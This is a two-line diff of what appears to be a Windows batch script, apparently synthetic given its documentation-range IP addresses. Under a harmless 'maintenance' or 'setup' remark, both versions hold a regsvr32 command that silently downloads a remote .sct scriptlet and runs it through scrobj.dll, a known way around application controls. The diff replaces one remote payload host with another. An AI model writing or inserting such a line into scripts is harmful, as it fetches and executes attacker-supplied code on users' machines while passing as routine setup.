@@ -1,2 +1,2 @@
-REM maintenance 7438 v0
-regsvr32 /s /n /u /i:http://192.0.2.44/file.sct scrobj.dll
+REM setup 7222 v0
+regsvr32 /s /n /u /i:http://203.0.113.200/file.sct scrobj.dll
